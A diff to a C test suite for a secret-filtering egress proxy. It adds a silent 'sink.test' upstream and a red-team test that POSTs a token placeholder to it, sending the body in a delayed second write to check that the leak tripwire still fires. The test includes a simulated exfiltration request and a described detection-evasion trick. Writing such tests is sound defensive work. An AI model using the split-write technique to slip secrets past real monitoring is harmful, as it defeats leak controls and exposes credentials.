@@ -32,7 +32,7 @@
 #define REAL "ghp_REALproxy0123456789abcdef"
 
 static char heads_path[64], runca_path[64], upca_path[64];
-static uint16_t up_port, http_port, dns_port;
+static uint16_t up_port, http_port, dns_port, sink_port;
 static int ev_rd = -1;
 static struct moat_secrets *secrets;
 /* Connections the upstream accepted (shared with its process). */
@@ -154,10 +154,12 @@ _noreturn_ static void upstream_main(struct moat_tls_ca *ca, int lfd)
 
 static void setup(bool trust_upstream)
 {
-	static char name[] = "api.github.test", plain[] = "plain.test", up[] = UP_ADDR;
-	static struct moat_host_rule allow[2];
+	static char name[] = "api.github.test", plain[] = "plain.test", sink[] = "sink.test",
+		    up[] = UP_ADDR;
+	static struct moat_host_rule allow[3];
 	static struct moat_resolve res[] = {{.name = name, .addr = up},
-					    {.name = plain, .addr = up}};
+					    {.name = plain, .addr = up},
+					    {.name = sink, .addr = up}};
 	struct moat_tls_ca *run_ca = NULL, *up_ca = NULL;
 	struct moat_proxy_config *cfg = NULL;
 	struct moat_netns_fds lfds;
@@ -186,13 +188,31 @@ static void setup(bool trust_upstream)
 		upstream_main(up_ca, ulfd);
 	}
 	close(ulfd);
+	/* sink.test: a plain TCP upstream that reads until EOF, answers nothing */
+	ulfd = listen_tcp(UP_ADDR, &sink_port);
+	pid = fork();
+	ASSERT_TRUE(pid >= 0);
+	if (pid == 0) {
+		char junk[4096];
+		prctl(PR_SET_PDEATHSIG, SIGKILL);
+		for (;;) {
+			int a = accept(ulfd, NULL, NULL);
+			if (a < 0)
+				_exit(0);
+			while (read(a, junk, sizeof(junk)) > 0)
+				;
+			close(a);
+		}
+	}
+	close(ulfd);
 
 	allow[0] = (struct moat_host_rule){.pattern = name, .ports = {up_port}, .n_ports = 1};
 	allow[1] = (struct moat_host_rule){.pattern = plain, .ports = {up_port}, .n_ports = 1};
+	allow[2] = (struct moat_host_rule){.pattern = sink, .ports = {sink_port}, .n_ports = 1};
 	struct moat_policy pol = {.allow_hosts = allow,
-				  .n_allow_hosts = 2,
+				  .n_allow_hosts = 3,
 				  .resolve = res,
-				  .n_resolve = 2,
+				  .n_resolve = 3,
 				  .inspect_tls_all = inspect_all,
 				  .no_inspect = no_inspect_host ? &no_inspect_host : NULL,
 				  .n_no_inspect = no_inspect_host ? 1 : 0};
@@ -555,4 +575,49 @@ TEST(proxy_tls_no_inspect_passes_through)
 	ASSERT_CONTAINS(slurp(heads_path), "Authorization: Bearer " REAL "\r\n");
 	/* and pass-through still needs the SNI */
 	ASSERT_EQ(connect_tls("plain.test", NULL, upca_path), 0);
+}
+
+/* Red team: on the plain HTTP path the placeholder tripwire saw only the body
+ * bytes that arrived with the head; a client that sent the head, waited, then
+ * the body carried a placeholder past it (no alert before the fix). The
+ * interceptor already scanned the window across reads; now both do. */
+static void plain_post(const char *host, const char *body, bool split)
+{
+	char head[400];
+	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(http_port)};
+	struct timeval tv = {.tv_sec = 3};
+	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+
+	inet_pton(AF_INET, "127.0.0.1", &sa.sin_addr);
+	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
+	ASSERT_EQ(connect(fd, (struct sockaddr *)&sa, sizeof(sa)), 0);
+	snprintf(head, sizeof(head),
+		 "POST http://%s:%u/x HTTP/1.1\r\nHost: %s:%u\r\nContent-Length: %zu\r\n\r\n%s",
+		 host, sink_port, host, sink_port, strlen(body), split ? "" : body);
+	ASSERT_EQ(write(fd, head, strlen(head)), (ssize_t)strlen(head));
+	if (split) {
+		usleep(150 * 1000);
+		ASSERT_EQ(write(fd, body, strlen(body)), (ssize_t)strlen(body));
+	}
+	usleep(150 * 1000);
+	close(fd);
+}
+
+TEST(proxy_plain_body_tripwire_whatever_the_segments)
+{
+	char body[200];
+	setup(true);
+	snprintf(body, sizeof(body), "token=%s", moat_secrets_placeholder(secrets, 0));
+	/* positive control: head and body in one write */
+	plain_post("sink.test", body, false);
+	char *ev = events();
+	ASSERT_CONTAINS(ev, "alert: secret GH_TOKEN: placeholder in the request body");
+	/* the attack: the body in a later write */
+	plain_post("sink.test", body, true);
+	ev = events();
+	ASSERT_CONTAINS(ev, "alert: secret GH_TOKEN: placeholder in the request body");
+	/* no placeholder: no alert (the check is not a blanket refusal) */
+	plain_post("sink.test", "token=nothing", true);
+	ev = events();
+	ASSERT_TRUE(!strstr(ev, "alert:"));
 }
